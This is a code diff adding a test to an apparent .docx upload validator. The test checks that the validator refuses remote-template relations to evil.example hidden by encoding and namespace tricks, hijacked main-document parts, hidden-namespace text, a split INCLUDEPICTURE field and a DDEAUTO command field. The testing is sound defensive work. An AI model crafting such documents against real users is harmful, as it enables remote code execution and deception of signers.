@@ -27,6 +27,27 @@ describe('what is let in as a .docx (issue 3 §3)', () => {
     expect(await refusal(docxOf(['好'], { 'word/_rels/document.xml.rels': relation('mailto:a@b.cn') })), 'an address does no harm').toBe('let in');
   });
 
+  test('nothing is hidden by how it is spelled: encodings, other main documents, pieces and fields that reach out', async () => {
+    const outside = relation('https://evil.example/t.dotm', 'attachedTemplate');
+    const rels = 'word/_rels/settings.xml.rels';
+    const spelled = [outside.replace('External', '&#69;xternal'), outside.replaceAll('Relationship ', 'r:Relationship ').replace('xmlns=', 'xmlns:r='), outside.replace('Id="r1"', 'Id="a>b"')];
+    for (const one of spelled) expect(await refusal(docxOf(['好'], { [rels]: one })), one).toContain('https://evil.example/t.dotm');
+    expect(await refusal(docxOf(['好'], { 'word/_rels/settings.xml.RELS': outside }))).toContain('https://evil.example/t.dotm');
+    const parts = docxParts(paragraph('好'));
+    for (const bytes of [Buffer.from(`\ufeff${outside}`, 'utf16le'), Buffer.from(`<?xml version="1.0" encoding="utf-7"?>${outside}`)]) expect(await refusal(packDocx(new Map([...parts, [rels, bytes]])))).toContain('另存为');
+    // Word follows the relation to its main document; who signs off reads word/document.xml.
+    const elsewhere = Buffer.from(parts.get('_rels/.rels')!.toString().replace('word/document.xml', 'word/other.xml'));
+    expect(await refusal(packDocx(new Map([...parts, ['_rels/.rels', elsewhere], ['word/other.xml', parts.get('word/document.xml')!]])))).toContain('不是 Word');
+    expect(await refusal(packDocx(new Map([...parts, ['word/Document.xml', parts.get('word/document.xml')!]])))).toContain('不是 Word');
+    expect(await refusal(docxOf(['好'], { 'word/_rels/document.xml.rels': relation('media/page.html', 'aFChunk').replace('External', 'Internal') }))).toContain('page.html');
+    const unseen = '<x:p xmlns:x="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><x:r><x:t>乙方无条件付款</x:t></x:r></x:p>';
+    for (const body of [unseen, unseen.replace('http', '&#104;ttp'), unseen.replaceAll('x:', '').replace(':x=', '='), '<w:p xmlns:w="urn:x"><w:r><w:t>只在预览里</w:t></w:r></w:p>']) expect(await refusal(docxOf([body])), body).toContain('另存为');
+    const field = (...pieces: string[]): string => `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>${pieces.map((one) => `<w:r><w:instrText>${one}</w:instrText></w:r>`).join('')}</w:p>`;
+    expect(await refusal(docxOf([field(' INCLUDE', 'PICTURE "https://evil.example/a.png"')]))).toContain('INCLUDEPICTURE');
+    expect(await refusal(docxOf(['<w:p><w:fldSimple w:instr="ddeauto cmd x"/></w:p>']))).toContain('DDEAUTO');
+    expect(await refusal(docxOf([field(' PAGE \\* MERGEFORMAT ')])), 'page numbers do no harm').toBe('let in');
+  });
+
   test('what unpacks beyond bounds is refused before it is unpacked', async () => {
     const zeros = Buffer.alloc(50 * 1024 * 1024);
     const parts = docxParts(paragraph('好'));
